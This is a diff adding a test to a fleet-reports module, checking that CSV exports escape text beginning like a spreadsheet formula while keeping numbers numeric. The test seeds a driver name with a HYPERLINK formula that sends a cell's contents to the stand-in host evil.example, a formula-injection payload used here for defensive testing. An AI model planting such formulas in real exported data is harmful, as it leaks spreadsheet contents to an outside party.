@@ -4,6 +4,7 @@ import ExcelJS from "exceljs";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { startTestApp, type TestApp } from "../../testing/testApp.js";
 import { rawAlerts } from "../alerts/alerts.tables.js";
+import { users } from "../auth/auth.tables.js";
 import { rollUpDriving } from "../driver-scores/drivingRollup.js";
 import { vehicles } from "../fleet/fleet.tables.js";
 import { geofences } from "../geofences/geofences.tables.js";
@@ -266,6 +267,43 @@ describe("reports", () => {
     expect(english.body.startsWith("\uFEFF")).toBe(true);
     expect(lines[0]).toBe("Vehicle,Date,Driving (h),Idle (h),Parked (h),Offline (h)");
     expect(lines.some((line) => line.startsWith(`B 9104 KXA,${day},0.85,0.08,0.24,`))).toBe(true);
+  });
+
+  it("exports text that starts like a formula as text in every CSV, numbers as numbers", async () => {
+    const db = t.database.db;
+    const [driver] = await db.select({ name: users.name }).from(users).where(eq(users.id, vehicle.driverId));
+    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A2,"Klik")';
+    await db.update(users).set({ name: hyperlink }).where(eq(users.id, vehicle.driverId));
+    await db
+      .update(geofences)
+      .set({ fenceName: "-Gudang Uji Laporan" })
+      .where(eq(geofences.fenceName, "Gudang Uji Laporan"));
+    try {
+      const csv = async (kind: string, vehicleOnly = true) => {
+        const response = await exportFile(
+          kind,
+          `format=csv&startDate=${day}&endDate=${day}${vehicleOnly ? `&vehicleId=${vehicle.id}` : ""}`,
+        );
+        expect(response.statusCode, kind).toBe(200);
+        return response.body;
+      };
+      const quotedHyperlink = `"'${hyperlink.replaceAll('"', '""')}"`;
+      expect(await csv("driverScores", false)).toContain(`\n${quotedHyperlink},`);
+      expect(await csv("alerts", false)).toContain(`,${quotedHyperlink},`);
+      expect(await csv("trips")).toContain(`,${quotedHyperlink},`);
+      expect(await csv("geofenceVisits")).toContain(`B 9104 KXA,'-Gudang Uji Laporan,`);
+      // the stop's latitude -6.2 is a number and stays one
+      expect(await csv("stops")).toMatch(/,-6\.2,106\.9$/);
+    } finally {
+      await db
+        .update(users)
+        .set({ name: String(driver?.name) })
+        .where(eq(users.id, vehicle.driverId));
+      await db
+        .update(geofences)
+        .set({ fenceName: "Gudang Uji Laporan" })
+        .where(eq(geofences.fenceName, "-Gudang Uji Laporan"));
+    }
   });
 
   it("refuses a period over 31 days in Indonesian, a foreign vehicle, and callers without the report's key", async () => {
